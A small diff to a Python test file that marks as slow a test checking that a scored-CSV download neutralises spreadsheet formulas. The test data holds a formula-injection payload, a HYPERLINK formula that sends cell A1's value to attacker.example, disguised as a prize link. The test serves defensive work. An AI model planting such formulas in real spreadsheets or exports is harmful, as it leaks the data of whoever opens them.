@@ -172,6 +172,7 @@ def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tun
     pd.testing.assert_frame_equal(saved, scored, check_dtype=False)
 
 
+@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
 def test_the_download_neutralises_formulas(tuneboard_home, media_files):
     use_run(text_run(), tuneboard_home)
     hyperlink = '=HYPERLINK("http://attacker.example/?d="&A1, "Claim your prize")'
